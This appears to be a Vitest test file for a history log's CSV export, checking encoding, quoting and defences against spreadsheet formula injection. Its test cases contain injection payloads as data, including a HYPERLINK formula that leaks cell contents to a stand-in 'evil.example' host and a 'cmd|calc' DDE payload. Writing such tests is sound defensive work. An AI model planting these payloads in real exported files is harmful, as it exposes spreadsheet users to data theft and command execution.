import { expect, test } from 'vitest'
import { toHistory } from '../../../src/owner/api/history-answer.ts'
import { historyCsv } from '../../../src/shared/history-csv.ts'
import type { HistoryEvent } from '../../../src/shared/history.ts'
import { historyFixture } from '../../../scripts/fixtures/history.ts'

const nowMs = Date.UTC(2026, 10, 23, 14, 16, 53)
const csv = (events: readonly HistoryEvent[]) => historyCsv(toHistory(events, nowMs))
const usedBy = (client: string): HistoryEvent => ({
  kind: 'issued',
  atMs: nowMs,
  sinceMs: nowMs - 60_000,
  client,
  count: 3,
})

/** The cells of a table, as a reader that knows RFC 4180 gets them. */
function parse(text: string, separator = ','): string[][] {
  const rows: string[][] = []
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${separator}\\r\\n]*))(${separator}|\\r\\n)`, 'gy')
  let row: string[] = []
  for (const [, quoted, plain, end] of text.replace('\ufeff', '').matchAll(cell)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === separator) continue
    rows.push(row)
    row = []
  }
  return rows
}

test('the table has a row for each event, with the names and values of the local API', () => {
  const events = historyFixture(nowMs)
  const [head = [], ...rows] = parse(csv(events))
  expect(rows).toHaveLength(events.length)
  for (const [at, entry] of toHistory(events, nowMs).events.entries()) {
    const cells = Object.fromEntries(head.map((name, column) => [name, rows[at]![column]!]))
    const given = Object.fromEntries(Object.entries(cells).filter(([, cell]) => cell !== ''))
    expect(given).toEqual(
      Object.fromEntries(Object.entries(entry).map(([name, value]) => [name, String(value)])),
    )
  }
})

test('spreadsheets read it: byte order mark, lines end with CR LF', () => {
  const text = csv([usedBy('Zoë’s “report”, daily')])
  expect(text.startsWith('\ufeffat,kind,client,')).toBe(true)
  expect(text.endsWith('\r\n')).toBe(true)
  expect(parse(text)[1]![2]).toBe('Zoë’s “report”, daily')
  expect(csv([])).toMatch(/^\ufeff[^\r\n]+\r\n$/)
})

test.each([
  ['=HYPERLINK("http://evil.example?"&A1)', `'=HYPERLINK("http://evil.example?"&A1)`],
  ['+1+cmd|calc', "'+1+cmd|calc"],
  ['-2+3', "'-2+3"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1', "'=1"],
  ['\r\n=1', "'=1"],
  ['  =1', "'=1"],
  ['＝1+1', "'＝1+1"],
  ['a;=1', "a;'=1"],
  ['a,=1', "a,'=1"],
  ['"=1', `"'=1`],
  ['a"; @x', `a"; '@x`],
  ['\u202e=1', "'=1"],
])('a client named %j is text: %j', (client, text) => {
  expect(parse(csv([usedBy(client)]))[1]![2]).toBe(text)
})

test('no cell begins with a formula for a reader with another separator', () => {
  for (const separator of [';', ',', '\t', '|']) {
    const text = csv([usedBy(`x${separator}=1+1${separator}"${separator}@y`)])
    const cells = text.split(/[,;\t|\r\n]/).map((cell) => cell.replace(/^[\s"]+/, ''))
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
  }
})

test('control characters and direction overrides are taken out, quotes are doubled', () => {
  expect(csv([usedBy('a\u0000b\u001b[2J\u202ec"d\nend')])).toContain('"a b [2Jc""d end"')
})

test('persons and messages are cells of their own, and safe too', () => {
  const events: HistoryEvent[] = [
    { kind: 'signedIn', atMs: nowMs, person: '=Ada' },
    { kind: 'failed', atMs: nowMs, code: 'requestRefused', detail: '=cmd()' },
    { kind: 'signedIn', atMs: nowMs, person: null },
  ]
  const rows = parse(csv(events))
  expect(rows[1]![5]).toBe("'=Ada")
  expect(rows[2]![7]).toContain('The server’s answer: =cmd()')
  expect(rows[3]![5]).toBe('')
})
